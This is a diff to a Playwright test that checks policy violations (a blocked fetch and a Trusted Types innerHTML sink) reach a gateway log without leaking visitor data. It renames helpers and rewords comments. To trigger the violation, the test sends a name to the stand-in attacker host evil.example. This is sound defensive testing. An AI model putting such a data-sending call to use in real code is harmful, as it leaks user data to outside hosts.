@@ -1,34 +1,34 @@
 import { expect, test, type Page } from '@playwright/test';
-import { openStage } from '../support/stage.ts';
+import { openTestEnvironment } from '../support/test-environment.ts';
 
-// What a page's policy refuses reaches the operator, and not only the console of the visitor whom it happened to.
+// Policy violations reach the operator, not just the visitor's console.
 
-/** Does what no page of ours does: something that an enforced policy refuses, and a string that becomes markup. */
+/** Does what no page of ours does: violates an enforced policy, and turns a string into markup. */
 const misbehave = (page: Page): Promise<void> =>
   page.evaluate(async () => {
-    // While the browser's driver calls it, a function may do what the page may not.
+    // Code called by the browser driver may bypass the page's policy.
     await new Promise((resolve) => setTimeout(resolve));
     await fetch('https://evil.example/Ann-Lee').catch(() => undefined);
     try {
       document.createElement('div').innerHTML = '<b>Ann Lee</b>';
     } catch {
-      // Refused where it is enforced.
+      // Blocked if enforced.
     }
   });
 
 for (const trustedTypes of ['enforce', 'report'] as const) {
-  test(`a violation is in the gateway's log, where Trusted Types are there to ${trustedTypes}`, async ({ browser, baseURL }) => {
-    const stage = await openStage(String(baseURL), { gateway: { TRUSTED_TYPES: trustedTypes } });
-    const page = await (await browser.newContext({ baseURL: stage.url })).newPage();
+  test(`a violation is in the gateway's log, with Trusted Types set to ${trustedTypes}`, async ({ browser, baseURL }) => {
+    const testEnv = await openTestEnvironment(String(baseURL), { gateway: { TRUSTED_TYPES: trustedTypes } });
+    const page = await (await browser.newContext({ baseURL: testEnv.url })).newPage();
     await page.goto('/about?q=Quxworthy');
     await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
     await misbehave(page);
-    const fetched = await stage.logged(({ msg, directive }) => msg === 'policy report' && directive === 'connect-src');
+    const fetched = await testEnv.logged(({ msg, directive }) => msg === 'policy report' && directive === 'connect-src');
     expect([fetched['page'], fetched['disposition'], fetched['blocked']]).toEqual(['/about', 'enforce', 'https://evil.example']);
-    const typed = await stage.logged(({ msg, directive }) => msg === 'policy report' && directive === 'require-trusted-types-for');
+    const typed = await testEnv.logged(({ msg, directive }) => msg === 'policy report' && directive === 'require-trusted-types-for');
     expect([typed['page'], typed['disposition'], typed['blocked'], typed['sink']]).toEqual(['/about', trustedTypes, 'trusted-types-sink', 'Element innerHTML']);
     expect(JSON.stringify([fetched, typed])).not.toMatch(/Quxworthy|Ann/);
     await page.context().close();
-    await stage.close();
+    await testEnv.close();
   });
 }
